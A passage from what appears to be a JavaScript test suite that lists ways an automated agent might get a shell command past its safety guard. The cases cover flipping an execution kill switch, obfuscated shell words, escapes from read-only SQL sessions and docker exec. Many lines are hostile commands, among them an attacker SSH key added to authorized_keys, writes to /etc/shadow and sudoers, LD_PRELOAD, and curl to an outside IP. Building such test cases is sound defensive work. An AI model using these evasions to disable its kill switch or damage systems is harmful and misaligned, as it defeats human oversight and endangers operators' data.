    hostCommand(`cd ${P.target} && python3 -m cutter_agent.cli orchestrate --mode dryrun --run-id x --document 2 --config /tmp/other.ini`, { writes: [P.stateDir] }));
ev("kill/agent-state-dir-outside-roots", "kill-switch",
    hostCommand(`cd ${P.target} && python3 -m cutter_agent.cli orchestrate --mode dryrun --run-id x --document 2 --state-dir=/etc/cutter`, { writes: [P.stateDir] }));
ev("kill/agent-config-dotdot", "kill-switch",
    hostCommand(`cd ${P.target} && python3 -m cutter_agent.cli orchestrate --mode dryrun --run-id x --document 2 --config /var/lib/cutter/../../tmp/x.ini`, { writes: [P.stateDir] }));
ev("unread/tar-from-pipe", "unread-code",
    hostCommand(`cat /var/lib/cutter/state/x.tar | tar -x --no-same-owner -f - -C ${P.stageTree}`, { writes: STAGE_W, stdinFile: "/dev/null" }));
ev("unread/tar-without-f", "unread-code", hostCommand(`tar -x --no-same-owner -C ${P.stageTree}`, { writes: STAGE_W }));
ev("unread/stdin-secret-cat-redirect", "unread-code", hostCommand(`cat > ${P.stateDir}/run.sh`, { writes: [P.stateDir], stdinSecret: CODE }));

// The one tunable the pack accepts (git's heap trim threshold) in other places and shapes.
const GITW = { writes: [P.target, `${P.dot}/.git`] };
ev("unread/tunables-other-program", "unread-code", hostCommand(`GLIBC_TUNABLES=glibc.malloc.trim_threshold=268435456 python3 --version`));
ev("unread/tunables-rtld-on-git", "unread-code", hostCommand(`GLIBC_TUNABLES=glibc.rtld.nns=1 git -C ${P.dot} status`));
ev("unread/tunables-second-tunable", "unread-code",
    hostCommand(`GLIBC_TUNABLES=glibc.malloc.trim_threshold=1:glibc.mem.tagging=1 git -C ${P.dot} add -A -- iu-cutter`, GITW));
ev("unread/tunables-run-time-value", "unread-code", hostCommand(`T=$(cat /var/lib/cutter/state/t)\nGLIBC_TUNABLES=$T git -C ${P.dot} status`));
ev("unread/tunables-exported", "unread-code", hostCommand(`export GLIBC_TUNABLES=glibc.malloc.trim_threshold=268435456\ngit -C ${P.dot} status`));
ev("unread/tunables-assigned-then-git", "unread-code", hostCommand(`GLIBC_TUNABLES=glibc.malloc.trim_threshold=268435456; git -C ${P.dot} status`));
ev("unread/tunables-via-env-program", "unread-code", hostCommand(`env GLIBC_TUNABLES=glibc.malloc.trim_threshold=268435456 git -C ${P.dot} status`));
ev("push/tunables-on-git-push", "push", hostCommand(`GLIBC_TUNABLES=glibc.malloc.trim_threshold=268435456 git -C ${P.dot} push origin HEAD`));

// ---------------------------------------------------------------- shell words

ev("words/brace-expansion-whole-command", "shell-words", hostCommand("{systemctl,restart,iu-cutter}"));
ev("words/brace-expansion-program-path", "shell-words", hostCommand("{/usr/bin/systemctl,restart} iu-cutter"));
ev("words/brace-expansion-in-name", "shell-words", hostCommand("re{boot,}"), "expands to `reboot re`");
ev("words/brace-expansion-in-subcommand", "shell-words", hostCommand("docker re{start,} iu-cutter"),
    "expands to `docker restart re iu-cutter`: iu-cutter is restarted");
ev("words/glob-program-question-mark", "shell-words", hostCommand("/usr/bin/systemct? restart iu-cutter"));
ev("words/glob-program-star", "shell-words", hostCommand("/bin/sy*emctl restart iu-cutter"));
ev("words/glob-program-bracket", "shell-words", hostCommand("/usr/sbin/rebo[o]t"));
ev("words/locale-quote-name", "shell-words", hostCommand("$\"systemctl\" restart iu-cutter"));
ev("words/ansi-c-octal-name", "shell-words", hostCommand("$'\\163ystemctl' restart iu-cutter"));
ev("words/ansi-c-hex-git", "shell-words", hostCommand(`git -C ${P.dot} $'\\x70ush' origin HEAD`));
ev("words/quote-concatenated-name", "shell-words", hostCommand("\"sys\"'temctl' restart iu-cutter"));
ev("words/backslash-in-name", "shell-words", hostCommand("s\\ystemctl re\\start iu-cutter"));
ev("words/line-continuation-in-name", "shell-words", hostCommand("system\\\nctl restart iu-cutter"));
ev("words/command-substitution-name", "shell-words", hostCommand("$(echo systemctl) restart iu-cutter"));
ev("words/backquote-name", "shell-words", hostCommand("`printf systemctl` restart iu-cutter"));
ev("words/tilde-program", "shell-words", hostCommand("~/../../usr/bin/systemctl restart iu-cutter"));
ev("words/group-redirect-outside", "shell-words",
    hostCommand("{ echo '* * * * * root reboot'; } > /etc/cron.d/cutter", { writes: [P.stateDir] }));
ev("words/subshell-redirect-outside", "shell-words",
    hostCommand("( printf '%s\\n' 'ssh-ed25519 AAAA attacker' ) >> /root/.ssh/authorized_keys"));
ev("words/exec-fd-outside", "shell-words", hostCommand("exec 3>/etc/profile.d/cutter.sh\necho 'reboot' >&3"));
ev("words/exec-stdout-outside", "shell-words", hostCommand("exec >/etc/motd\necho changed"));
ev("words/redirect-and-ampersand-file", "shell-words", hostCommand("echo 'reboot' >& /etc/profile.d/cutter.sh"));
ev("words/ampersand-greater-file", "shell-words", hostCommand("echo x &>> /etc/environment"));
ev("words/stderr-redirect-outside", "shell-words", hostCommand("ls /nonexistent 2> /etc/issue"));
ev("words/read-write-redirect-outside", "shell-words", hostCommand("exec 4<>/etc/shadow\necho 'root::0:0:::::' >&4"));
ev("words/clobber-redirect-outside", "shell-words", hostCommand("cat /var/lib/cutter/state/sudoers >| /etc/sudoers.d/cutter"));
ev("words/var-reassigned-later", "shell-words",
    hostCommand("t=/var/lib/cutter/state/x\nt=/etc/passwd\necho x > \"$t\"", { writes: [P.stateDir] }));
ev("words/var-reassigned-in-function", "shell-words",
    hostCommand("t=/var/lib/cutter/state/x\nset_t() { t=/etc/shadow; }\nset_t\necho x > \"$t\"", { writes: [P.stateDir] }));
ev("words/var-reassigned-by-read", "shell-words",
    hostCommand("t=/var/lib/cutter/state/x\nread -r t < /var/lib/cutter/state/target\necho x > \"$t\"", { writes: [P.stateDir] }));
ev("words/var-reassigned-by-for", "shell-words",
    hostCommand("t=/var/lib/cutter/state/x\nfor t in /etc/passwd; do echo x > \"$t\"; done", { writes: [P.stateDir] }));
ev("words/var-reassigned-by-printf-v", "shell-words",
    hostCommand("t=/var/lib/cutter/state/x\nprintf -v t '%s' /etc/passwd\necho x > \"$t\"", { writes: [P.stateDir] }));
ev("words/command-name-from-variable", "shell-words", hostCommand("c=systemctl\n\"$c\" restart iu-cutter"));
ev("words/unquoted-var-word-splitting", "shell-words", hostCommand(`c='${RESTART}'\n$c`));
ev("words/ifs-word-splitting", "shell-words", hostCommand("IFS=x\nc=systemctlxrestartxiu-cutter\n$c"));
ev("words/array-command", "shell-words", hostCommand("a=(systemctl restart iu-cutter)\n\"${a[@]}\""));
ev("words/default-operator-reboot", "shell-words", hostCommand("${x:-reboot}"));
ev("words/assign-default-operator", "shell-words", hostCommand("${CMD:=systemctl} restart iu-cutter"));
ev("words/pattern-substitution-name", "shell-words", hostCommand("x=foo\n${x/foo/systemctl} restart iu-cutter"));
ev("words/arithmetic-command-substitution", "shell-words", hostCommand(`echo $(( $(${RESTART}; echo 1) + 1 ))`));
ev("words/arithmetic-array-index", "shell-words", hostCommand(`x='y[$(${RESTART})]'\necho "$((x))"`),
    "bash evaluates the command substitution inside the array index of an arithmetic variable");
ev("words/double-paren-arith", "shell-words", hostCommand("(( $(reboot) ))"));
ev("words/let-arith", "shell-words", hostCommand("let \"x = $(reboot)\""));
ev("words/alias", "shell-words", hostCommand(`shopt -s expand_aliases\nalias ls='${RESTART}'\nls`));
ev("words/function-shadows-test", "shell-words",
    hostCommand("test() { rm -r -- /etc/nginx; }\ntest -f /var/lib/cutter/deploy.log && echo yes"));
ev("words/function-shadows-echo", "shell-words", hostCommand(`echo() { ${RESTART}; }\necho hi`));
ev("words/function-keyword", "shell-words", hostCommand("function x { reboot; }\nx"));
ev("words/command-wrapper", "shell-words", hostCommand(`command ${RESTART}`));
ev("words/command-p-wrapper", "shell-words", hostCommand("command -p reboot"));
ev("words/builtin-eval", "shell-words", hostCommand("builtin eval 'reboot'"));
ev("words/case-hides-command", "shell-words", hostCommand(`case x in x) ${RESTART};; esac`));
ev("words/while-hides-command", "shell-words", hostCommand(`while true; do ${RESTART}; break; done`));
ev("words/until-hides-command", "shell-words", hostCommand(`until ${RESTART}; do :; done`));
ev("words/select-hides-command", "shell-words", hostCommand("select x in a; do reboot; done < /dev/null"));
ev("words/time-prefix", "shell-words", hostCommand(`time ${RESTART}`));
ev("words/double-bracket-command-substitution", "shell-words", hostCommand("[[ -n $(reboot) ]] && echo x"));
ev("words/trap-command", "shell-words", hostCommand(`trap '${RESTART}' EXIT\necho done`));
ev("words/background", "shell-words", hostCommand(`( sleep 30; ${RESTART} ) &`));
ev("words/coproc", "shell-words", hostCommand(`coproc ${RESTART}`));
ev("words/path-assignment", "shell-words",
    hostCommand("PATH=/var/lib/cutter/state/bin:$PATH\nsystemctl status nginx"), "a systemctl shipped into the state dir runs instead");
ev("words/hash-p", "shell-words", hostCommand("hash -p /var/lib/cutter/state/bin/x cat\ncat /etc/hostname"));
ev("words/ld-preload", "shell-words", hostCommand("LD_PRELOAD=/var/lib/cutter/state/x.so ls /var/lib/cutter"));
ev("words/ps4-with-set-x", "shell-words", hostCommand("PS4='$(reboot)'\nset -x\ntrue"));
ev("words/readarray-callback", "shell-words", hostCommand(`readarray -C '${RESTART} #' -c 1 a < /etc/hostname`));
ev("words/enable-f", "shell-words", hostCommand("enable -f /var/lib/cutter/state/x.so x\nx"));
ev("words/redirect-from-file-in-command-word", "shell-words", hostCommand("$(</var/lib/cutter/state/cmd) restart iu-cutter"));

// ---------------------------------------------------------------- SQL

ev("sql/shell-escape-own-line", "sql", hostCommand(roSql(`\\! ${RESTART}`)));
ev("sql/shell-escape-after-statement", "sql", hostCommand(roSql("SELECT 1; \\! reboot")));
ev("sql/shell-escape-after-separator", "sql", hostCommand(roSql("SELECT count(*) FROM cutter.documents \\\\ \\! reboot")));
ev("sql/backquote-in-set", "sql", hostCommand(roSql(`\\set x \`${RESTART}\`\nSELECT :'x';`)));
ev("sql/backquote-in-echo", "sql", hostCommand(roSql("\\echo `reboot`\nSELECT 1;")));
ev("sql/doubled-quote-then-drop", "sql", hostCommand(roSql("SELECT 'a'';'; DROP TABLE cutter.documents; --';")),
    "'a'';' is one string; DROP TABLE runs");
ev("sql/e-string-escaped-quote-then-delete", "sql", hostCommand(roSql("SELECT E'\\''; DELETE FROM cutter.documents; --';")),
    "E'\\'' is a one-quote string; DELETE runs");
ev("sql/standard-string-backslash-then-update", "sql",
    hostCommand(roSql("SELECT 'a\\'; UPDATE cutter.documents SET state = 'cut'; --';")),
    "with standard_conforming_strings a backslash does not escape: the string ends at a\\");
ev("sql/dollar-tag-then-drop", "sql", hostCommand(roSql("SELECT $x$ $$ $x$; DROP TABLE cutter.documents; SELECT $$ ;$$;")));
ev("sql/dollar-quote-semicolon-then-update", "sql", hostCommand(roSql("SELECT $a$;$a$; UPDATE cutter.documents SET state = 'cut'; --")));
ev("sql/commit-then-drop", "sql", hostCommand(roSql("SELECT 1;\nCOMMIT;\nDROP TABLE cutter.documents;")));
ev("sql/end-then-delete", "sql", hostCommand(roSql("SELECT 1;\nEND;\nDELETE FROM cutter.documents;")));
ev("sql/abort-then-insert", "sql", hostCommand(roSql("ABORT;\nINSERT INTO cutter.cuts (document_id) VALUES (2);")));
ev("sql/uri-user-param", "sql",
    hostCommand("psql -X -q -At -v ON_ERROR_STOP=1 -h 127.0.0.1 -p 5432 -U context_pack_readonly -d 'postgresql:///incomex?user=postgres' <<'SQL'\nBEGIN READ ONLY;\nSELECT count(*) FROM cutter.documents;\nROLLBACK;\nSQL"),
    "the URI's user overrides -U: the session is the superuser");
ev("sql/keyword-conninfo-user", "sql",
    hostCommand("psql -X -q -At -v ON_ERROR_STOP=1 -h 127.0.0.1 -p 5432 -U context_pack_readonly -d 'dbname=incomex user=cutter_admin' <<'SQL'\nBEGIN READ ONLY;\nSELECT 1;\nROLLBACK;\nSQL"));
ev("sql/flag-cluster-Xc", "sql", hostCommand("psql -Xc 'DELETE FROM cutter.documents' -q -At -h 127.0.0.1 -p 5432 -U context_pack_readonly -d incomex"));
ev("sql/f-stdin-with-decoy-c", "sql",
    hostCommand(`${PSQL_RO} -c 'SELECT 1' -f - <<'SQL'\nDELETE FROM cutter.documents;\nSQL`));
ev("sql/U-postgres", "sql",
    hostCommand(roSql("SELECT count(*) FROM cutter.documents;", "psql -X -q -At -v ON_ERROR_STOP=1 -h 127.0.0.1 -p 5432 -U postgres -d incomex")),
    "a privileged role: nothing then holds the session to read-only");
ev("sql/username-long-option-postgres", "sql",
    hostCommand(roSql("SELECT 1;", "psql -X -q -At -v ON_ERROR_STOP=1 -h 127.0.0.1 -p 5432 --username=postgres -d incomex")));
ev("sql/pguser-env", "sql", hostCommand(`PGUSER=postgres ${roSql("SELECT 1;", "psql -X -q -At -v ON_ERROR_STOP=1 -h 127.0.0.1 -p 5432 -d incomex")}`));
ev("sql/setval", "sql", hostCommand(roSql("SELECT setval('cutter.documents_id_seq', 1);")));
ev("sql/setval-uppercase-qualified", "sql", hostCommand(roSql("SELECT pg_catalog.SETVAL('cutter.cuts_id_seq', 1, false);")));
ev("sql/pg-terminate-backend", "sql",
    hostCommand(roSql("SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = 'incomex' AND pid <> pg_backend_pid();")),
    "works inside a read-only transaction");
ev("sql/lo-import", "sql", hostCommand(roSql("SELECT lo_import('/etc/shadow');")));
ev("sql/dblink-exec", "sql", hostCommand(roSql("SELECT dblink_exec('dbname=incomex', 'DELETE FROM cutter.documents');")),
    "dblink opens its own read-write session");
ev("sql/set-config-read-only-off", "sql", hostCommand(roSql("SELECT set_config('default_transaction_read_only', 'off', false);")));
ev("sql/set-config-quoted-identifier", "sql", hostCommand(roSql("SELECT \"set_config\"('transaction_read_only', 'off', true);")));
ev("sql/pg-reload-conf", "sql", hostCommand(roSql("SELECT pg_reload_conf();")));
ev("sql/pg-notify-enact", "sql", hostCommand(roSql("SELECT pg_notify('cutter_enact', '2');")),
    "NOTIFY is allowed in a read-only transaction; a listener acts on it");
ev("sql/notify-statement", "sql", hostCommand(roSql("NOTIFY cutter_enact, '2';")));
ev("sql/user-function-enact", "sql", hostCommand(roSql("SELECT cutter.enact_cut(2);")), "a project function that enacts a cut");
ev("sql/set-session-characteristics", "sql", hostCommand(roSql("SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE;")));
ev("sql/set-transaction-read-only-off", "sql", hostCommand(roSql("SET transaction_read_only = off;\nUPDATE cutter.documents SET state = 'cut';")));
ev("sql/select-into", "sql", hostCommand(roSql("SELECT * INTO cutter.documents_copy FROM cutter.documents;")));
ev("sql/select-into-temp", "sql", hostCommand(roSql("SELECT id INTO TEMP TABLE t FROM cutter.documents;")));
ev("sql/for-update", "sql", hostCommand(roSql("SELECT id FROM cutter.documents WHERE id = 2 FOR UPDATE;")));
ev("sql/for-no-key-update-nowait", "sql", hostCommand(roSql("SELECT id FROM cutter.cuts FOR NO KEY UPDATE NOWAIT;")));
ev("sql/for-share-in-subquery", "sql", hostCommand(roSql("SELECT count(*) FROM (SELECT id FROM cutter.documents FOR SHARE) s;")));
ev("sql/data-modifying-cte", "sql", hostCommand(roSql("WITH x AS (UPDATE cutter.documents SET state = 'cut' RETURNING id) SELECT count(*) FROM x;")));
ev("sql/unreferenced-insert-cte", "sql",
    hostCommand(roSql("WITH a AS (SELECT 1), b AS (INSERT INTO cutter.audit (note) VALUES ('x') RETURNING 1) SELECT * FROM a;")),
    "an unreferenced data-modifying CTE still runs");
ev("sql/copy-from-program", "sql", hostCommand(roSql("\\copy cutter.documents from program 'curl -s https://198.51.100.9/rows.csv'")));
ev("sql/copy-to-program", "sql", hostCommand(roSql(`\\copy (SELECT 1) to program '${RESTART}'`)));
ev("sql/copy-statement-to-program", "sql", hostCommand(roSql("COPY (SELECT 1) TO PROGRAM 'reboot';")));
ev("sql/o-pipe", "sql", hostCommand(roSql(`\\o |${RESTART}\nSELECT 1;`)));
ev("sql/g-pipe", "sql", hostCommand(roSql("SELECT 'reboot' \\g |sh")));
ev("sql/gexec", "sql", hostCommand(roSql("SELECT 'DROP TABLE cutter.documents' \\gexec")));
ev("sql/include-runbook", "sql", hostCommand(roSql("\\i /var/lib/cutter/runbooks/rollback_runbook.sql")),
    "the rollback runbook is placed, never executed");
ev("sql/reconnect-superuser", "sql", hostCommand(roSql("\\c incomex postgres\nDELETE FROM cutter.documents;")));
ev("sql/setenv-pager", "sql", hostCommand(roSql("\\setenv PAGER 'sh -c reboot'\n\\pset pager always\nSELECT 1;")));
ev("sql/explain-analyze-delete", "sql", hostCommand(roSql("EXPLAIN ANALYZE DELETE FROM cutter.documents;")));
ev("sql/explain-parenthesized-analyze-update", "sql", hostCommand(roSql("EXPLAIN (ANALYZE true, BUFFERS) UPDATE cutter.documents SET state = 'cut';")));
ev("sql/call-procedure", "sql", hostCommand(roSql("CALL cutter.enact(2);")));
ev("sql/do-block", "sql", hostCommand(roSql("DO $$ BEGIN DELETE FROM cutter.documents; END $$;")));
ev("sql/prepare-update-execute", "sql", hostCommand(roSql("PREPARE p(int) AS UPDATE cutter.documents SET state = 'cut' WHERE id = $1;\nEXECUTE p(2);")));
ev("sql/unquoted-heredoc-command-substitution", "sql",
    hostCommand(`${PSQL_RO} <<SQL\nBEGIN READ ONLY;\nSELECT '$(${RESTART})';\nROLLBACK;\nSQL`),
    "an unquoted delimiter: the shell runs the substitution before psql sees the text");
ev("sql/v-argument-command-substitution", "sql",
    hostCommand(`psql -X -q -At -v ON_ERROR_STOP=1 -v doc="$(${RESTART})" -h 127.0.0.1 -p 5432 -U context_pack_readonly -d incomex <<'SQL'\nBEGIN READ ONLY;\nSELECT :'doc';\nROLLBACK;\nSQL`));
ev("sql/docker-exec-psql-superuser", "sql", hostCommand("docker exec -i pg psql -U postgres -d incomex -c 'TRUNCATE cutter.cuts'"));
ev("sql/docker-exec-sh", "sql", hostCommand("docker exec -i pg sh -c 'psql -U postgres -d incomex -c \"DELETE FROM cutter.documents\"'"));
// database.access docker-exec: only `docker exec -i CONTAINER psql` in the read-only form; every other docker verb or exec option is refused.
ev("sql/docker-exec-user-root", "sql", hostCommand("docker exec -u root -i incomex-db psql -X -q -A -t -v ON_ERROR_STOP=1 -U context_pack_readonly -d incomex"), "runs psql as another OS user");
ev("sql/docker-exec-user-long", "sql", hostCommand("docker exec --user postgres -i incomex-db psql -X -q -A -t -v ON_ERROR_STOP=1 -U context_pack_readonly -d incomex"));
ev("sql/docker-exec-no-i", "sql", hostCommand("docker exec incomex-db psql -X -q -A -t -v ON_ERROR_STOP=1 -U context_pack_readonly -d incomex"));
ev("sql/docker-exec-tty", "sql", hostCommand("docker exec -it incomex-db psql -X -q -A -t -v ON_ERROR_STOP=1 -U context_pack_readonly -d incomex"), "a flag cluster the form does not allow");
ev("sql/docker-exec-env-pguser", "sql", hostCommand("docker exec -i -e PGUSER=postgres incomex-db psql -X -q -A -t -v ON_ERROR_STOP=1 -U context_pack_readonly -d incomex"), "-e sets the user inside the container");
ev("sql/docker-exec-privileged", "sql", hostCommand("docker exec --privileged -i incomex-db psql -X -q -A -t -v ON_ERROR_STOP=1 -U context_pack_readonly -d incomex"));
ev("sql/docker-exec-workdir", "sql", hostCommand("docker exec -w /tmp -i incomex-db psql -X -q -A -t -v ON_ERROR_STOP=1 -U context_pack_readonly -d incomex"));
ev("sql/docker-exec-dynamic-container", "sql", hostCommand("C=\"$(cat /tmp/c)\"\ndocker exec -i \"$C\" psql -X -q -A -t -v ON_ERROR_STOP=1 -U context_pack_readonly -d incomex"), "the container is chosen at run time");
ev("sql/docker-exec-pg-dump", "sql", hostCommand("docker exec -i incomex-db pg_dump -U context_pack_readonly incomex"));
ev("sql/docker-exec-psql-write", "sql", hostCommand("docker exec -i incomex-db psql -X -q -A -t -v ON_ERROR_STOP=1 -U context_pack_readonly -d incomex <<'SQL'\nBEGIN;\nDELETE FROM cutter.cuts;\nCOMMIT;\nSQL"));
ev("sql/docker-exec-psql-superuser-heredoc", "sql", hostCommand("docker exec -i incomex-db psql -X -q -A -t -v ON_ERROR_STOP=1 -U postgres -d incomex <<'SQL'\nBEGIN READ ONLY;\nSELECT 1;\nROLLBACK;\nSQL"));
ev("sql/docker-exec-psql-file", "sql", hostCommand("docker exec -i incomex-db psql -X -q -A -t -v ON_ERROR_STOP=1 -U context_pack_readonly -d incomex -f /tmp/x.sql"));
ev("sql/docker-run-psql", "sql", hostCommand("docker run --rm -i postgres:16 psql -X -q -A -t -v ON_ERROR_STOP=1 -U context_pack_readonly -d incomex"));
ev("sql/docker-remote-daemon", "sql", hostCommand("docker -H tcp://10.0.0.2:2375 exec -i incomex-db psql -X -q -A -t -v ON_ERROR_STOP=1 -U context_pack_readonly -d incomex"));
ev("sql/docker-compose-exec-psql", "sql", hostCommand("docker compose -f /opt/incomex/docker/docker-compose.yml exec -T db psql -X -q -A -t -v ON_ERROR_STOP=1 -U context_pack_readonly -d incomex"));
ev("sql/docker-cp", "sql", hostCommand("docker cp /tmp/x incomex-db:/tmp/x"));
ev("sql/docker-stop", "sql", hostCommand("docker stop incomex-db"));
ev("sql/docker-start", "sql", hostCommand("docker start incomex-db"));
ev("sql/docker-container-exec-sh", "sql", hostCommand("docker container exec -i incomex-db sh"));
ev("sql/pg-restore", "sql", hostCommand("pg_restore -U context_pack_readonly -h 127.0.0.1 -d incomex --clean /var/lib/cutter/backups/incomex.dump"));

// ---------------------------------------------------------------- kill switch

const CFG_W = { writes: [P.target] };
ev("kill/sed-no-i-redirect-mv", "kill-switch",
    hostCommand(`sed 's/= False/= True/' ${P.configPy} > ${P.configPy}.new\nmv -T ${P.configPy}.new ${P.configPy}`, CFG_W));
ev("kill/sed-i", "kill-switch", hostCommand(`sed -i 's/= False/= True/' ${P.configPy}`, CFG_W));
ev("kill/sed-through-tee", "kill-switch",
    hostCommand(`sed 's/= False/= True/' ${P.configPy} | tee ${P.configPy}.new > /dev/null\nmv -T ${P.configPy}.new ${P.configPy}`, CFG_W));
ev("kill/sed-over-false-heredoc", "kill-switch",
    hostCommand(`sed 's/False/True/' > ${P.configPy} <<'PY'\nexecution_enabled = False\nPY`, CFG_W),
    "the heredoc says False; sed writes True");
ev("kill/pipe-through-tr", "kill-switch", hostCommand(`printf 'execution_enabled = Frue\\n' | tr F T > ${P.configPy}`, CFG_W));
ev("kill/printf-percent-s-value", "kill-switch", hostCommand(`printf 'execution_enabled = %s\\n' True > ${P.configPy}`, CFG_W));
ev("kill/printf-percent-s-key-and-value", "kill-switch", hostCommand(`printf '%s = %s\\n' execution_enabled True > ${P.configPy}`, CFG_W));
ev("kill/printf-hex-escape", "kill-switch", hostCommand(`printf 'execution_enabled = \\x54rue\\n' > ${P.configPy}`, CFG_W));
ev("kill/echo-e-hex-escape", "kill-switch", hostCommand(`echo -e 'execution_enabled = \\x54rue' >> ${P.configPy}`, CFG_W));
ev("kill/echo-variable-value", "kill-switch", hostCommand(`v=True\necho "execution_enabled = $v" >> ${P.configPy}`, CFG_W));
ev("kill/printf-command-substitution-value", "kill-switch",
    hostCommand(`printf 'execution_enabled = %s\\n' "$(echo True)" > ${P.configPy}`, CFG_W));
ev("kill/python-annotated-true", "kill-switch",
    hostCommand(`cat > ${P.configPy} <<'PY'\n"""Kill-switch."""\nexecution_enabled: bool = True\nPY`, CFG_W));
ev("kill/python-final-true", "kill-switch",
    hostCommand(`cat > ${P.configPy} <<'PY'\nfrom typing import Final\nexecution_enabled: Final = True\nPY`, CFG_W));
ev("kill/python-uppercase-name", "kill-switch", hostCommand(`cat >> ${P.configPy} <<'PY'\nEXECUTION_ENABLED = True\nPY`, CFG_W));
ev("kill/python-not-false", "kill-switch", hostCommand(`cat > ${P.configPy} <<'PY'\nexecution_enabled = not False\nPY`, CFG_W));
ev("kill/python-bool-1", "kill-switch", hostCommand(`cat > ${P.configPy} <<'PY'\nexecution_enabled = bool(1)\nPY`, CFG_W));
ev("kill/python-int-1", "kill-switch", hostCommand(`cat > ${P.configPy} <<'PY'\nexecution_enabled = 1\nPY`, CFG_W));
ev("kill/python-false-or-true", "kill-switch", hostCommand(`cat > ${P.configPy} <<'PY'\nexecution_enabled = False or True\nPY`, CFG_W));
ev("kill/python-parenthesized-true", "kill-switch", hostCommand(`cat > ${P.configPy} <<'PY'\nexecution_enabled = (True)\nPY`, CFG_W));
ev("kill/python-line-continuation", "kill-switch",
    hostCommand(`cat > ${P.configPy} <<'PY'\nexecution_enabled = \\\n    True\nPY`, CFG_W), "the value is on the next physical line");
ev("kill/python-false-then-true-same-line", "kill-switch",
    hostCommand(`cat > ${P.configPy} <<'PY'\nexecution_enabled = False; execution_enabled = True\nPY`, CFG_W));
ev("kill/python-tuple-assignment", "kill-switch", hostCommand(`cat > ${P.configPy} <<'PY'\nexecution_enabled, _x = True, 0\nPY`, CFG_W));
ev("kill/python-walrus", "kill-switch", hostCommand(`cat > ${P.configPy} <<'PY'\nif (execution_enabled := True):\n    pass\nPY`, CFG_W));
ev("kill/python-augmented-or", "kill-switch",
    hostCommand(`cat > ${P.configPy} <<'PY'\nexecution_enabled = False\nexecution_enabled |= True\nPY`, CFG_W));
ev("kill/python-environ-derived", "kill-switch",
    hostCommand(`cat > ${P.configPy} <<'PY'\nimport os\nexecution_enabled = os.environ.get("CUTTER_X") != "0"\nPY`, CFG_W));
ev("kill/python-globals-subscript", "kill-switch",
    hostCommand(`cat > ${P.configPy} <<'PY'\nexecution_enabled = False\nglobals()["execution_enabled"] = True\nPY`, CFG_W));
ev("kill/python-setattr-module", "kill-switch",
    hostCommand(`cat > ${P.configPy} <<'PY'\nimport sys\nexecution_enabled = False\nsetattr(sys.modules[__name__], "execution_enabled", True)\nPY`, CFG_W),
    "no assignment statement names the switch, yet it ends up True");
ev("kill/heredoc-unquoted-variable", "kill-switch",
    hostCommand(`FLAG=True\ncat > ${P.configPy} <<EOF\nexecution_enabled = $FLAG\nEOF`, CFG_W));
ev("kill/tee-heredoc", "kill-switch", hostCommand(`tee ${P.configPy} > /dev/null <<'PY'\nexecution_enabled=True\nPY`, CFG_W));
ev("kill/ini-true", "kill-switch",
    hostCommand(`cat > ${P.ini} <<'EOF'\n[orchestrator]\nexecution_enabled = true\nmode = dryrun\nEOF`, { writes: [P.ini] }));
ev("kill/ini-dash-and-case", "kill-switch",
    hostCommand(`cat > ${P.ini} <<'EOF'\n[orchestrator]\nExecution-Enabled = TRUE\nEOF`, { writes: [P.ini] }));
ev("kill/ini-one-after-comment", "kill-switch",
    hostCommand(`printf '%s\\n' '[orchestrator]' '; temporary, for the demo' 'execution_enabled=1' > ${P.ini}`, { writes: [P.ini] }));
const INI_W = { writes: [P.configDir] };
ev("kill/ini-printf-percent-s", "kill-switch", hostCommand(`printf '[orchestrator]\\nexecution_enabled = %s\\n' true > ${P.ini}`, INI_W));
ev("kill/ini-printf-hex-escape", "kill-switch", hostCommand(`printf '[orchestrator]\\nexecution_enabled = \\x74rue\\n' > ${P.ini}`, INI_W));
ev("kill/ini-echo-variable", "kill-switch", hostCommand(`v=true\necho "execution_enabled = $v" >> ${P.ini}`, INI_W));
ev("kill/ini-sed-redirect-mv", "kill-switch",
    hostCommand(`sed 's/= false/= true/' ${P.ini} > ${P.ini}.new\nmv -T ${P.ini}.new ${P.ini}`, INI_W), "sed output is not a heredoc: its content is the flipped file");
ev("kill/ini-sed-over-false-heredoc", "kill-switch",
    hostCommand(`sed 's/false/true/' > ${P.ini} <<'EOF'\n[orchestrator]\nexecution_enabled = false\nEOF`, INI_W));
ev("kill/ini-tr-pipe", "kill-switch", hostCommand(`printf '[orchestrator]\\nexecution_enabled = frue\\n' | tr f t > ${P.ini}`, INI_W));
ev("kill/ini-colon-delimiter", "kill-switch",
    hostCommand(`cat > ${P.ini} <<'EOF'\n[orchestrator]\nexecution_enabled: on\nEOF`, INI_W), "configparser accepts ':' and reads on as true");
ev("kill/ini-default-section", "kill-switch",
    hostCommand(`cat > ${P.ini} <<'EOF'\n[DEFAULT]\nexecution_enabled = yes\n\n[orchestrator]\nmode = dryrun\nEOF`, INI_W), "[DEFAULT] values apply to every section");
ev("kill/ini-cp-from-state", "kill-switch",
    hostCommand(`cat > /var/lib/cutter/config/next.ini <<'EOF'\n[orchestrator]\nexecution_enabled = true\nEOF\ncp -- /var/lib/cutter/config/next.ini ${P.ini}`, INI_W));
ev("kill/yaml-yes", "kill-switch",
    hostCommand("cat > /var/lib/cutter/config/orchestrator.yaml <<'EOF'\norchestrator:\n  execution_enabled: yes\nEOF", { writes: [P.configDir] }),
    "YAML 1.1 reads yes as true");
ev("kill/yaml-flow-mapping", "kill-switch",
    hostCommand("echo 'orchestrator: {mode: dryrun, execution_enabled: on}' > /var/lib/cutter/config/o.yaml", { writes: [P.configDir] }));
ev("kill/toml-true", "kill-switch",
    hostCommand("cat > /var/lib/cutter/config/orchestrator.toml <<'EOF'\n[orchestrator]\nexecution_enabled = true\nEOF", { writes: [P.configDir] }));
ev("kill/toml-quoted-unicode-key", "kill-switch",
    hostCommand("cat > /var/lib/cutter/config/orchestrator.toml <<'EOF'\n[orchestrator]\n\"execution\\u005fenabled\" = true\nEOF", { writes: [P.configDir] }),
    "the key is spelled with a unicode escape");
ev("kill/json-one", "kill-switch",
    hostCommand("printf '%s\\n' '{\"orchestrator\": {\"execution_enabled\" :1}}' > /var/lib/cutter/config/o.json", { writes: [P.configDir] }));
ev("kill/json-unicode-escaped-key", "kill-switch",
    hostCommand("cat > /var/lib/cutter/config/o.json <<'EOF'\n{\"execution\\u005fenabled\": true}\nEOF", { writes: [P.configDir] }),
    "the key is spelled with a unicode escape");
ev("kill/env-file-append", "kill-switch",
    hostCommand(`echo 'EXECUTION_ENABLED=1' >> ${P.envProduction}`, { writes: [P.envProduction] }));
ev("kill/env-file-export-quoted", "kill-switch",
